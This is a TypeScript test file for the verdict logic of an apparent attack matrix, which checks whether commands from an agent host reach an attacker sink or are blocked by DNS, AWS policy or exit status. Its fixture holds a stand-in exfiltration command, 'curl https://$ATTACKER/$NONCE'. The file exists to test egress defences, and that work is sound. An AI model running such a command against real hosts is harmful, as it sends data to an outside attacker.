import { expect } from "chai";
import type { Row } from "../../../twin/matrix/row";
import { parseRows } from "../../../twin/matrix/row";
import { matrixRows } from "../../../twin/matrix/rows";
import { verdict } from "../../../twin/matrix/verdict";

const row: Row = { id: "r", from: "agent-host", run: "curl https://$ATTACKER/$NONCE", expect: "blocked" };
const heard = (event: object) => JSON.stringify({ kind: "sink", data: "n1", ...event });

type Case = readonly [
    what: string,
    status: number | undefined,
    lines: readonly string[],
    observed: string,
    more?: Partial<Row>,
];

const cases: readonly Case[] = [
    ["a command that failed and that nobody heard", 28, [], "blocked"],
    ["a command that failed although the attacker has the nonce", 28, [heard({})], "works"],
    ["a command that did not end and that nobody heard", undefined, [], "blocked"],
    ["a command that did not end although the attacker has the nonce", undefined, [heard({})], "works"],
    ["another row's nonce at the attacker", 1, [heard({ data: "n2" })], "blocked"],
    ["a success that nobody outside heard, though it aimed outside", 0, [], "error"],
    ["a success that aims at nobody who writes down", 0, [], "works", { run: "true" }],
    ["a program that is not there", 127, [], "error"],
    ["a program that cannot be run", 126, [], "error"],
    [
        "a query that the VPC's resolver blocked",
        1,
        [heard({ kind: "dns", resolver: "vpc", answer: "NXDOMAIN" })],
        "blocked",
    ],
    [
        "a query that the VPC's resolver answered",
        1,
        [heard({ kind: "dns", resolver: "vpc", answer: "records" })],
        "works",
    ],
    [
        "a query that reached a resolver of the internet",
        1,
        [heard({ kind: "dns", resolver: "internet", answer: "NXDOMAIN" })],
        "works",
    ],
    ["a request that AWS's policies refused", 22, [heard({ kind: "aws", allowed: false })], "blocked"],
    ["a request that AWS's policies allowed", 22, [heard({ kind: "aws", allowed: true })], "works"],
    ["a success where the row says what must be seen and it was not", 0, [], "blocked", { sees: "the $NONCE" }],
    ["a failure where what the row names was seen", 1, [heard({ data: "the n1" })], "works", { sees: "the $NONCE" }],
];

describe("what a row of the attack matrix has shown", () => {
    for (const [what, status, lines, observed, more] of cases) {
        it(`is "${observed}" for ${what}`, () => {
            const traces = { status, said: "", lines, nonce: "n1" };
            expect(verdict({ ...row, ...more }, traces).observed).to.equal(observed);
        });
    }

    const refused: readonly (readonly [what: string, rows: unknown, says: string])[] = [
        ["what is no list", {}, "rows are a list"],
        ["an unknown key", [{ ...row, form: "x" }], "row 1 has the key form"],
        ["an unknown place", [{ ...row, from: "moon" }], "from is moon: agent, agent-host"],
        ["another expectation", [{ ...row, expect: "maybe" }], "blocked or works"],
        ["a missing command", [{ id: "r", from: "user", expect: "works" }], "run is text"],
        ["a pattern that is none", [{ ...row, sees: "(" }], "Unterminated group"],
        ["one id twice", [row, row], "two rows have the id r"],
    ];
    for (const [what, rows, says] of refused) {
        it(`is not asked of a file with ${what}`, () => expect(() => parseRows(rows)).to.throw(says));
    }

    it("is asked of at least 180 rows that must be blocked and 30 that must work, each well formed", () => {
        const rows = parseRows(matrixRows.map(({ control: _, ...one }) => one));
        const count = (expected: Row["expect"]) => rows.filter((one) => one.expect === expected).length;
        expect(count("blocked")).to.be.at.least(180);
        expect(count("works")).to.be.at.least(30);
    });
});
